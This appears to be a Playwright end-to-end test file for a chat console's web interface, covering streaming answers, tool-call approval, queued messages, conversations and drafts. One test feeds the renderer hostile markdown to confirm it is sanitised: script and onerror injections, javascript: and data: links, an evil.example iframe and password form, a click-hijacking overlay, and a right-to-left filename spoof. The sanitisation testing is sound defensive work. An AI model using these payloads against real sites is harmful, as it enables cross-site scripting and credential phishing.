// The chat of the console in a real Chromium, on the real server, with a fake model provider.

import assert from 'node:assert/strict'
import { describe, test, type TestContext } from 'node:test'
import type { Page } from 'playwright-core'
import {
  type ConsoleView,
  holdRequests,
  picture,
  seriousFindings,
  sharedConsoleBrowser,
} from '../support/console-page.ts'
import { calls, hangsAfter, type Json, says, sharedTestServer, someone } from '../support/test-server.ts'

const server = sharedTestServer()
const consoleBrowser = sharedConsoleBrowser()

async function openChat(context: TestContext, user: string, view: ConsoleView = {}): Promise<Page | null> {
  const opened = await consoleBrowser.open(context, `${server.polylog.baseUrl}/chat`, { user, ...view })
  return opened?.page ?? null
}

async function ask(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message', exact: true }).fill(text)
  await page.keyboard.press('Enter')
}

const answers = (page: Page) => page.getByRole('group', { name: 'Answer', exact: true })
const complete = (page: Page) => page.getByRole('button', { name: 'Copy the answer' }).last().waitFor()

async function conversationsOf(user: string): Promise<Json[]> {
  return (await server.call('GET', '/v1/conversations', { user })).body as unknown as Json[]
}

describe('an answer', () => {
  test('streams as markdown, survives a reload, and can be judged and answered again', async (context) => {
    const user = someone()
    await server.provider.script(
      [
        [
          { text: ['# Title\n\nSome **bold**', ' text.\n\n- one\n- two\n\n'] },
          { stall: true },
          { text: ['| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet x = 1\n```\n'] },
          { finish: 'stop' },
        ],
        says('Another answer.'),
      ],
      user,
    )
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Hello ${user}`)
    const answer = answers(page).last()
    await answer.getByRole('heading', { name: 'Title' }).waitFor()
    await answer.getByText('Live').waitFor()
    assert.match(page.url(), /\/chat\/\w+$/)

    await page.reload()
    await answer.getByRole('listitem').filter({ hasText: 'two' }).waitFor()
    await server.provider.release()
    await answer.getByRole('cell', { name: '2' }).waitFor()
    await answer.getByText('let x = 1').waitFor()
    await complete(page)
    assert.equal(await answer.getByRole('heading', { name: 'Title' }).count(), 1)
    await picture(page, 'chat-answer')
    assert.deepEqual(await seriousFindings(page), [])

    await page.getByRole('button', { name: 'Good answer' }).click()
    await page.getByRole('button', { name: 'Comment' }).click()
    await page.getByRole('dialog').getByRole('textbox').fill('Well structured')
    await page.getByRole('dialog').getByRole('button', { name: 'Send' }).click()
    await page.getByText('Thank you for the comment.').waitFor()
    await page.reload()
    await page.locator('button[aria-label="Good answer"][aria-pressed="true"]').waitFor()

    await page.getByRole('button', { name: 'Answer again' }).click()
    await answer.getByText('Another answer.').waitFor()
    await complete(page)
    assert.equal(await answers(page).count(), 1)
    // The question, and the title in the list.
    await page.getByText(`Hello ${user}`).nth(1).waitFor()
    assert.equal(await page.getByText(`Hello ${user}`).count(), 2)
  })

  test('stops at once when asked to', async (context) => {
    const user = someone()
    await server.provider.script([hangsAfter('Once upon a time')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `A story ${user}`)
    await answers(page).getByText('Once upon a time').waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('Stopped', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' })
    const [run] = (await server.call('GET', '/v1/agent/runs', { user })).body as unknown as Json[]
    assert.equal(run?.status, 'cancelled')
  })

  test('stops also if the server has not named the run yet', async (context) => {
    const user = someone()
    await server.provider.script([hangsAfter('Once upon a time')], user)
    const page = await openChat(context, user)
    if (page === null) return
    const release = await holdRequests(page, '**/v1/agent/chat*')
    await ask(page, `A story ${user}`)
    const stop = page.getByRole('button', { name: 'Stop' })
    await stop.click()
    await stop.and(page.locator(':disabled')).waitFor()
    release()
    await page.getByText('Stopped', { exact: true }).waitFor()
    await stop.waitFor({ state: 'detached' })
  })

  test('is asked for again once, also with a double click', async (context) => {
    const user = someone()
    await server.provider.script([says('One.'), says('Two.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Hello ${user}`)
    await complete(page)
    const release = await holdRequests(page, '**/v1/agent/chat*')
    await page.getByRole('button', { name: 'Answer again' }).dblclick()
    release()
    await answers(page).getByText('Two.').waitFor()
    await complete(page)
    assert.equal(await page.getByRole('button', { name: 'Dismiss' }).count(), 0, 'no error')
  })

  test('that fails says why, and the next question works', async (context) => {
    const user = someone()
    await server.provider.script([[{ text: ['Half'] }, { cut: true }], says('Fine now.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Try ${user}`)
    await page.getByRole('alert').waitFor()
    await ask(page, `Once more ${user}`)
    await answers(page).last().getByText('Fine now.').waitFor()
  })

  test('does nothing to the page, however hostile it is', async (context) => {
    const user = someone()
    const rows = Array.from({ length: 3000 }, (_, row) => `| ${row} | x |`).join('\n')
    const hostile = [
      '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked = 2">\n\n',
      '[click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>)\n\n',
      '![pixel](https://tracker.example/pixel.png?who=you)\n\n',
      '<style>body { display: none }</style><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>\n\n',
      '<a href="https://evil.example" onclick="window.hacked=5" style="position:fixed;inset:0">cover</a>\n\n',
      'safe \u202Egnp.exe\u202C name\n\n',
      `| n | v |\n|---|---|\n${rows}\n\n`,
      `${'deep > '.repeat(2000)}\n\n${'['.repeat(5000)}\n\nThe end.`,
    ]
    await server.provider.script([[{ text: hostile }, { finish: 'stop' }]], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Be evil ${user}`)
    await answers(page).getByText('The end.').waitFor()
    await complete(page)

    assert.equal(await page.evaluate('window.hacked'), undefined)
    const answer = answers(page).last()
    assert.equal(await answer.locator('script, img, iframe, form, style, [onclick], [onerror], [style]').count(), 0)
    const links: string[] = []
    // The link below the answer, to its run, is the console's own.
    for (const link of await answer.locator('a:not(footer a)').all()) {
      links.push([await link.getAttribute('href'), await link.getAttribute('rel'), await link.textContent()].join(' '))
    }
    assert.deepEqual(links, [
      'https://tracker.example/pixel.png?who=you noopener noreferrer nofollow pixel (tracker.example)',
    ])
    await answer.getByText('⟦U+202E⟧', { exact: false }).waitFor()
    await answer.getByText('more rows are not shown', { exact: false }).waitFor()
    assert.ok((await answer.locator('td').count()) <= 2000)
    await picture(page, 'chat-hostile')
  })
})

describe('a tool call', () => {
  test('is approved with changed arguments; the card shows effect, expiry, input and output', async (context) => {
    const user = someone()
    await server.provider.script([calls(['remember_note', { text: 'milk \u202E' }]), says('Noted.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Remember ${user}`)
    const approval = page.getByRole('group', { name: 'Allow remember_note?' })
    await approval.getByText('Writes, safe to repeat').waitFor()
    await approval.getByText('Expires in').waitFor()
    await approval.getByText('milk ⟦U+202E⟧', { exact: true }).waitFor()
    await picture(page, 'chat-approval')
    assert.deepEqual(await seriousFindings(page), [])

    await approval.getByRole('button', { name: 'Edit' }).click()
    const field = approval.getByRole('textbox')
    await field.fill('{"text": ')
    await approval.getByText('This is not a JSON object.').waitFor()
    await field.fill('{"text": "oat milk"}')
    await approval.getByRole('button', { name: 'Approve with changes' }).click()
    await answers(page).getByText('Noted.').waitFor()

    const card = page.getByRole('region', { name: 'Tool remember_note' })
    await card.getByText('Done').waitFor()
    await card.getByRole('button').first().click()
    await card.getByRole('group', { name: 'Output' }).getByText('note_', { exact: false }).waitFor()
  })

  test('is approved in a tab without a place for a stream', async (context) => {
    const user = someone()
    await server.provider.script([calls(['remember_note', { text: 'milk' }]), says('Noted.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    // As if other tabs had them all.
    await page.addInitScript(() => {
      for (const place of [0, 1, 2]) void navigator.locks.request(`polylog run ${place}`, () => new Promise(() => {}))
    })
    const stream = await server.chat(user, `Remember ${user}`)
    await stream.waitFor(({ json }) => json.data.status === 'awaiting_input')
    const [conversation] = await conversationsOf(user)
    await page.goto(`${server.polylog.baseUrl}/chat/${conversation?.['id']}`)
    await page.getByRole('button', { name: 'Approve', exact: true }).click()
    await answers(page).getByText('Noted.').waitFor()
  })

  test('is denied with a reason that the model gets', async (context) => {
    const user = someone()
    await server.provider.script([calls(['remember_note', { text: 'milk' }]), says('Then not.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Remember ${user}`)
    await page.getByRole('button', { name: 'Deny' }).click()
    await page.getByRole('textbox', { name: 'Reason (optional)' }).fill('I prefer tea')
    await page.getByRole('button', { name: 'Deny' }).click()
    await answers(page).getByText('Then not.').waitFor()
    const [, second] = await server.askedTimes(user, 2)
    assert.match(JSON.stringify(second?.body.messages), /I prefer tea/)
  })
})

describe('while an answer is on its way', () => {
  test('it is never shown under the question before it', async (context) => {
    const user = someone()
    await server.provider.script([says('It is blue.'), hangsAfter('It is wet')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `The sky ${user}`)
    await complete(page)
    // The feed and the stream of the run are faster than the messages of the conversation.
    const shown = page.waitForRequest('**/messages*')
    const release = await holdRequests(page, '**/messages*')
    await ask(page, `The sea ${user}`)
    await server.askedTimes(user, 2)
    await shown
    assert.match(await answers(page).innerText(), /It is blue/)
    release()
    await answers(page).last().getByText('It is wet').waitFor()
    assert.equal(await answers(page).count(), 2)
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('Stopped', { exact: true }).waitFor()
  })

  test('messages queue; a queued one can be removed or edited before it starts', async (context) => {
    const user = someone()
    await server.provider.script([hangsAfter('Working on it'), says('To the edited one.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `First ${user}`)
    await answers(page).getByText('Working on it').waitFor()
    await ask(page, `Second ${user}`)
    const chips = page.getByRole('list', { name: 'Queued messages' }).getByRole('listitem')
    await chips.filter({ hasText: 'Second' }).waitFor()
    await ask(page, `Third ${user}`)
    await chips.filter({ hasText: 'Third' }).waitFor()
    await picture(page, 'chat-queue')
    await chips.filter({ hasText: 'Second' }).getByRole('button', { name: 'Remove' }).click()
    await chips.filter({ hasText: 'Second' }).waitFor({ state: 'detached' })
    await chips.filter({ hasText: 'Third' }).getByRole('button', { name: 'Edit' }).click()
    await chips.getByRole('textbox').fill(`Edited ${user}`)
    await page.keyboard.press('Enter')
    await chips.filter({ hasText: 'Edited' }).waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await answers(page).last().getByText('To the edited one.').waitFor()
    const asked = await server.asked(user)
    assert.equal(asked.length, 2)
  })

  test('a queued message keeps its lines when it is edited; one with files can only be removed', async (context) => {
    const user = someone()
    await server.provider.script([hangsAfter('Working on it'), says('Done.'), says('Read.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `First ${user}`)
    await answers(page).getByText('Working on it').waitFor()
    const chips = page.getByRole('list', { name: 'Queued messages' }).getByRole('listitem')
    await ask(page, `One ${user}\nTwo`)
    await chips.getByRole('button', { name: 'Edit' }).click()
    assert.equal(await chips.getByRole('textbox').inputValue(), `One ${user}\nTwo`)
    await page.keyboard.type('!')
    await page.keyboard.press('Enter')
    await chips.getByRole('button', { name: 'Edit' }).waitFor()
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('plum') })
    await page.getByRole('button', { name: 'Remove notes.txt' }).waitFor()
    await ask(page, `Read ${user}`)
    await chips.filter({ hasText: 'Read' }).getByRole('button', { name: 'Remove' }).waitFor()
    assert.equal(await chips.filter({ hasText: 'Read' }).getByRole('button', { name: 'Edit' }).count(), 0)
    await page.getByRole('button', { name: 'Stop' }).click()
    await answers(page).last().getByText('Read.').waitFor()
    await page.getByText('Two!').waitFor()
    assert.match(JSON.stringify((await server.asked(user))[1]?.body), /\\nTwo!/)
  })

  test('the connection can be cut: the journal goes on, and everything comes back once', async (context) => {
    const user = someone()
    const part = (name: string) => ({ text: Array.from({ length: 20 }, (_, index) => `${name}-${index} `) })
    await server.provider.script(
      [[part('before'), { stall: true }, part('during'), { stall: true }, part('after'), { finish: 'stop' }]],
      user,
    )
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Count ${user}`)
    const answer = answers(page).last()
    await answer.getByText('before-19').waitFor()
    await page.getByRole('button', { name: 'Cut the connection' }).click()
    await page.getByText('The run goes on without you.', { exact: false }).waitFor()
    await server.provider.release()
    await page.locator('.cut-panel-text').filter({ hasText: 'during-19' }).waitFor()
    await picture(page, 'chat-cut')
    assert.doesNotMatch((await answer.locator('.markdown').textContent()) ?? '', /during/)
    await page.getByRole('button', { name: 'Reconnect' }).click()
    await page.getByText('nothing is there twice', { exact: false }).waitFor()
    await server.provider.release()
    await complete(page)
    const words = ['before', 'during', 'after'].flatMap((name) => part(name).text)
    assert.equal((await answer.locator('.markdown').textContent())?.trim(), words.join('').trim())
  })
})

describe('conversations', () => {
  test('are searched, renamed and deleted', async (context) => {
    const user = someone()
    for (const title of ['Apples', 'Pears']) await server.call('POST', '/v1/conversations', { user, body: { title } })
    const page = await openChat(context, user)
    if (page === null) return
    const list = page.getByRole('navigation', { name: 'Conversations' })
    await list.getByRole('link', { name: 'Apples' }).waitFor()
    await page.getByRole('searchbox').fill('pear')
    await list.getByRole('link', { name: 'Apples' }).waitFor({ state: 'detached' })
    await list.getByRole('link', { name: 'Pears' }).click()
    await list.getByRole('button', { name: 'Rename: Pears' }).click()
    await page.getByRole('dialog').getByRole('textbox').fill('Pears and plums')
    await page.keyboard.press('Enter')
    await list.getByRole('link', { name: 'Pears and plums' }).waitFor()
    await list.getByRole('button', { name: 'Delete: Pears and plums' }).click()
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
    await list.getByRole('link', { name: 'Pears and plums' }).waitFor({ state: 'detached' })
    assert.deepEqual(
      (await conversationsOf(user)).map(({ title }) => title),
      ['Apples'],
    )
    assert.equal(new URL(page.url()).pathname, '/chat')
  })

  test('one that is deleted in another tab is left', async (context) => {
    const user = someone()
    await server.provider.script([says('One.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await ask(page, `Hello ${user}`)
    await answers(page).getByText('One.').waitFor()
    const [conversation] = await conversationsOf(user)
    await server.call('DELETE', `/v1/conversations/${String(conversation?.['id'])}`, { user })
    await page.getByText('The conversation was deleted.').waitFor()
    await page.waitForURL((url) => url.pathname === '/chat')
    await answers(page).first().waitFor({ state: 'detached' })
  })

  test('a file goes with the question', async (context) => {
    const user = someone()
    await server.provider.script([says('A small file.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('the secret word is plum') })
    await page.getByRole('button', { name: 'Remove notes.txt' }).waitFor()
    await ask(page, `Read ${user}`)
    await answers(page).getByText('A small file.').waitFor()
    await page.getByRole('group', { name: 'You' }).getByText('notes.txt').waitFor()
    assert.match(JSON.stringify((await server.asked(user))[0]?.body), /the secret word is plum/)
  })
})

describe('a draft', () => {
  const field = (page: Page) => page.getByRole('textbox', { name: 'Message', exact: true })

  test('that is written while a new conversation begins stays, and goes into this conversation', async (context) => {
    const user = someone()
    await server.provider.script([says('One.'), says('Two.')], user)
    const page = await openChat(context, user)
    if (page === null) return
    const release = await holdRequests(page, '**/v1/agent/chat*')
    await ask(page, `First ${user}`)
    await ask(page, `Second ${user}`)
    await field(page).fill('Third')
    release()
    await answers(page).getByText('Two.').waitFor()
    assert.equal(await field(page).inputValue(), 'Third')
    assert.equal(await answers(page).count(), 2)
    assert.equal((await conversationsOf(user)).length, 1)
  })

  test('is not lost if the message before it cannot be sent, nor is that message', async (context) => {
    const page = await openChat(context, someone())
    if (page === null) return
    const { promise: released, resolve: release } = Promise.withResolvers<void>()
    await page.route('**/v1/agent/chat*', async (route) => {
      await released
      await route.fulfill({ status: 400, json: { code: 'invalid_request', message: 'No.', retryable: false } })
    })
    await ask(page, 'Precious')
    await field(page).fill('Next')
    release()
    await page.getByText('No.', { exact: true }).waitFor()
    // The notice stays until it is dismissed, and must not cover the button.
    await page.getByRole('button', { name: 'Send' }).click({ trial: true })
    assert.equal(await field(page).inputValue(), 'Precious\n\nNext')
  })

  test('belongs to its conversation, with the files that are still on their way', async (context) => {
    const user = someone()
    for (const title of ['Apples', 'Pears']) await server.call('POST', '/v1/conversations', { user, body: { title } })
    const page = await openChat(context, user)
    if (page === null) return
    const list = page.getByRole('navigation', { name: 'Conversations' })
    await list.getByRole('link', { name: 'Apples' }).click()
    const release = await holdRequests(page, '**/v1/files*')
    await field(page).fill('About apples')
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'apples.txt', mimeType: 'text/plain', buffer: Buffer.from('red') })
    await page.getByText('apples.txt').waitFor()
    await list.getByRole('link', { name: 'Pears' }).click()
    await page.getByText('apples.txt').waitFor({ state: 'detached' })
    const uploaded = page.waitForResponse('**/v1/files*')
    release()
    await uploaded
    assert.equal(await field(page).inputValue(), '')
    assert.equal(await page.getByText('apples.txt').count(), 0)
    await list.getByRole('link', { name: 'Apples' }).click()
    await page.getByRole('button', { name: 'Remove apples.txt' }).waitFor()
    assert.equal(await field(page).inputValue(), 'About apples')
  })

  test('of one user is not shown to the next, nor are the conversations', async (context) => {
    const user = someone()
    await server.call('POST', '/v1/conversations', { user, body: { title: `Secrets of ${user}` } })
    const page = await openChat(context, user)
    if (page === null) return
    await page.getByText(`Secrets of ${user}`).waitFor()
    await field(page).fill('My thoughts')
    const release = await holdRequests(page, '**/v1/conversations*')
    await page.getByRole('button', { name: user, exact: true }).click()
    await page.getByRole('dialog').getByRole('textbox').fill(someone())
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click()
    await page.getByText(`Secrets of ${user}`).waitFor({ state: 'detached' })
    assert.equal(await field(page).inputValue(), '')
    release()
  })
})

test('a person who has gone to another page stays there when the new conversation begins', async (context) => {
  const user = someone()
  await server.provider.script([says('One.')], user)
  const page = await openChat(context, user)
  if (page === null) return
  const release = await holdRequests(page, '**/v1/agent/chat*')
  await ask(page, `Hello ${user}`)
  await page.getByRole('link', { name: 'Runs', exact: true }).click()
  const begun = page.waitForResponse('**/v1/agent/chat*')
  release()
  await begun
  await page.getByRole('link', { name: `Hello ${user}` }).waitFor()
  assert.equal(new URL(page.url()).pathname, '/runs')
})

describe('every size and theme', () => {
  for (const [name, view] of Object.entries({
    'dark on a desktop': { theme: 'dark' },
    'light on a phone': { size: 'phone' },
    'dark on a phone, in Chinese': { size: 'phone', theme: 'dark', language: 'zh' },
  } satisfies Record<string, ConsoleView>)) {
    test(`${name}: the chat works, nothing is wider than the screen, and axe finds nothing serious`, async (context) => {
      const user = someone()
      await server.provider.script(
        [calls(['current_time', {}]), says('# It is late\n\nGo to bed. `soon`\n\n| a | b |\n|---|--:|\n| 1 | 2 |')],
        user,
      )
      const page = await openChat(context, user, view)
      if (page === null) return
      const isChinese = 'language' in view
      const names = isChinese ? { field: '消息', copy: '复制回答' } : { field: 'Message', copy: 'Copy the answer' }
      await picture(page, `welcome ${name}`)
      await page.getByRole('textbox', { name: names.field, exact: true }).fill(`Time? ${user}`)
      await page.keyboard.press('Enter')
      await page.getByRole('button', { name: names.copy }).waitFor()
      await picture(page, `chat ${name}`)
      const align = await page.evaluate(`getComputedStyle(document.querySelector('td:last-child')).textAlign`)
      assert.equal(align, 'end', 'a column of numbers is aligned as the answer says')
      assert.deepEqual(await seriousFindings(page), [])
      const overflow = await page.evaluate(
        'document.documentElement.scrollWidth - document.documentElement.clientWidth',
      )
      assert.equal(overflow, 0)
    })
  }
})
